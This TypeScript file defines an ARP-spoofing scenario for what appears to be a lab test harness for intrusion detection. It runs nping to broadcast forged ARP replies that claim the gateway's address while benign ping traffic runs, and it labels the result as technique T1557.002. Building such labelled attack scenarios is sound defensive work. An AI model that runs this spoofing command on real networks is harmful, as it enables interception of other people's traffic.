import { FORGED_MAC } from '../check-truth.js';
import type { Scenario } from '../scenario.js';
import { ROUTER_INTERFACES } from '../topology.js';

/** The attacker answers for the gateway: what the client sends out would come to it first. */
const arpSpoofing: Scenario = {
  name: 'arp-spoof',
  summary: 'nping claims the address of the gateway on the outside segment',
  kind: 'attack',
  services: [],
  run: async (context) => {
    const gateway = ROUTER_INTERFACES.wan0.ip4;
    const target = context.lab.hosts.client.ip4;
    const count = String(context.at({ slow: 3, normal: 10, fast: 50 }));
    const pace = ['-c', count, '--delay', context.at({ slow: '2s', normal: '500ms', fast: '50ms' })];
    const claim = ['--arp-type', 'ARP-reply', '--arp-sender-mac', FORGED_MAC, '--arp-sender-ip', gateway];
    // To everybody, so that the watched interface sees it too.
    const to = ['--dest-mac', 'ff:ff:ff:ff:ff:ff', '--arp-target-ip', target, target];
    const facts = { label: 'arp_spoofing', technique: 'T1557.002', sources: [gateway], targets: [target] };
    // The true gateway is alive: clients ask for it and it answers, now and then.
    const seconds = context.at({ slow: 7, normal: 6, fast: 4 });
    const visit = `for i in $(seq ${seconds}); do ip neigh flush dev eth0; ping -q -c1 -W1 ${gateway}; sleep 1; done`;
    await Promise.all([
      context.benign({ sources: [target], targets: [gateway] }, 'client', 'bash', ['-c', visit]),
      context.attack(facts, 'attacker', 'nping', ['--arp', ...pace, ...claim, '-e', 'eth0', ...to]),
    ]);
  },
};

export const layerTwo: readonly Scenario[] = [arpSpoofing];
